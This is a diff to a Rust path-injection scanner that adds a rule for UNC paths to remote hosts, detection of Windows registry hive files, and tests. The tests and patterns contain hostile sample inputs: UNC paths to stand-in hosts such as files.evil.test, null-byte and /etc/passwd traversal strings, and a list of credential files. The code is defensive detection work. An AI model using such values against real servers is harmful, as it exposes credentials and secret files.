@@ -65,6 +65,11 @@ pub(crate) static RULES: &[RuleInfo] = &[
         Severity::High,
         "Null byte truncating a file name (%00, \\0) before an extension",
     ),
+    rule(
+        "path-unc-remote",
+        Severity::High,
+        "UNC path to another host (\\\\host\\share\\file) where a file name is expected: the server fetches from, and authenticates to, that host",
+    ),
 ];
 
 const R_DOTDOT: usize = 0;
@@ -72,6 +77,7 @@ const R_EVASION: usize = 1;
 const R_SENSITIVE: usize = 2;
 const R_WRAPPER: usize = 3;
 const R_NULL: usize = 4;
+const R_UNC: usize = 5;
 
 fn push(hits: &mut Vec<Hit>, text: &str, rule: usize, start: usize, end: usize) {
     let mut s = start.min(text.len());
@@ -520,6 +526,7 @@ static CRITICAL: LazyLock<Regex> = LazyLock::new(|| {
         r"|(?:^|/)\.svn/(?:entries|wc\.db)|(?:^|/)web-inf/(?:web\.xml|classes/)",
         r"|(?:^|/)\.aws/credentials|(?:^|/)\.docker/config\.json|(?:^|/)\.kube/config|(?:^|/)\.netrc$|(?:^|/)\.pgpass$|(?:^|/)\.git-credentials$",
         r"|(?:^|/)\.bash_history$|(?:^|/)\.mysql_history$|(?:^|/)\.psql_history$",
+        r"|(?:^|/)(?:ntuser|usrclass)\.dat(?:\.log\d?)?$",
         r"|var/run/secrets/kubernetes\.io|(?:^|/)localsettings\.php$|(?:^|/)config\.inc\.php$|applicationhost\.config",
     ))
     .expect("static regex")
@@ -579,6 +586,8 @@ static FILE_ANCHORS: LazyLock<AhoCorasick> = LazyLock::new(|| {
             "id_ecdsa",
             "id_ed25519",
             "system32",
+            "ntuser.dat",
+            "usrclass.dat",
             "var/",
             "var\\",
             ".ssh",
@@ -744,6 +753,80 @@ fn scan_files(text: &str, hits: &mut Vec<Hit>) {
             push(hits, text, R_SENSITIVE, s, e);
         }
     }
+}
+
+/// UNC paths to a host, `\\\\host\\share\\x.dll`, where a value is a file
+/// name: a Windows server opening one connects to the host and sends its
+/// credentials. The forward-slash form `//host/share/x` is also a
+/// protocol-relative URL, so it counts only under a key naming a file or
+/// path. Device paths (`\\\\?\\`, `\\\\.\\`) are left to the file rules.
+fn scan_unc(text: &str, hits: &mut Vec<Hit>) {
+    let b = text.as_bytes();
+    // One vectorised search for both separators; a pair starts a candidate.
+    for p in memchr::memchr2_iter(b'\\', b'/', b) {
+        let sep = b[p];
+        if b.get(p + 1) != Some(&sep) || (p > 0 && (b[p - 1] == sep || b[p - 1] == b':')) {
+            continue;
+        }
+        let h = p + 2;
+        let hn = b[h..]
+            .iter()
+            .take(253)
+            .take_while(|c| {
+                c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b'@' | b'$')
+            })
+            .count();
+        let host = &b[h..h + hn];
+        if host.is_empty() || host == b"." || b.get(h + hn) != Some(&sep) {
+            continue;
+        }
+        let ss = h + hn + 1;
+        let sn = b[ss..]
+            .iter()
+            .take(80)
+            .take_while(|&&c| !is_token_delim(c) && c != b'\\' && c != b'/')
+            .count();
+        if sn == 0 {
+            continue;
+        }
+        let e = token_end(b, ss + sn).max(ss + sn);
+        if !in_value_position(text, p, e) {
+            continue;
+        }
+        if sep == b'/' && !(host.contains(&b'.') && path_key_before(b, p)) {
+            continue;
+        }
+        push(hits, text, R_UNC, p, e);
+    }
+}
+
+/// Whether the key of the value starting at `p` (before a `=`, or the value
+/// before a NUL in an extracted object or form) names a file or path.
+fn path_key_before(b: &[u8], p: usize) -> bool {
+    if p == 0 || !matches!(b[p - 1], b'=' | 0) {
+        return false;
+    }
+    let k = &b[p.saturating_sub(33)..p - 1];
+    let k = match k
+        .iter()
+        .rposition(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.')))
+    {
+        Some(i) => &k[i + 1..],
+        None => k,
+    };
+    let k = k.to_ascii_lowercase();
+    [
+        &b"file"[..],
+        b"path",
+        b"dir",
+        b"folder",
+        b"include",
+        b"template",
+        b"doc",
+        b"share",
+    ]
+    .iter()
+    .any(|w| memchr::memmem::find(&k, w).is_some())
 }
 
 /// Whether `[s, e)` is a whole value or a parameter value.
@@ -1052,6 +1135,7 @@ pub(crate) fn scan(text: &str, hits: &mut Vec<Hit>) {
         scan_wrappers(text, hits);
     }
     scan_null(text, hits);
+    scan_unc(text, hits);
     if hits.len() == first {
         // Nothing found (most values): nothing to weed out.
         return;
@@ -1277,6 +1361,10 @@ mod tests {
             ("jar:file:///etc/passwd!/", "path-wrapper"),
             ("../../etc/passwd%00.png", "path-null-byte"),
             ("shell.php\\x00.jpg", "path-null-byte"),
+            ("D:\\Users\\kim\\NTUSER.DAT", "path-sensitive-file"),
+            ("template=\\\\203.0.113.9\\pub\\t.html", "path-unc-remote"),
+            ("\\\\files.evil.test@SSL\\dav\\a.dll", "path-unc-remote"),
+            ("include\0//files.evil.test/dav/a.php", "path-unc-remote"),
         ] {
             assert!(rules(t).contains(&id), "{t:?} lacks {id}: {:?}", rules(t));
         }
@@ -1304,6 +1392,11 @@ mod tests {
             "a..b",
             "Contact us at info@example.com/../",
             "Use the Windows/System32 folder carefully",
+            "Map \\\\fileserver\\public as drive P: before the meeting",
+            "src=//cdn.example.com/lib/app.js",
+            "<script src=\"//cdn.example.com/x.js\"></script>",
+            "https://example.com//double//slash",
+            "Back up NTUSER.DAT before editing the registry",
         ] {
             assert!(
                 rules(t).is_empty(),
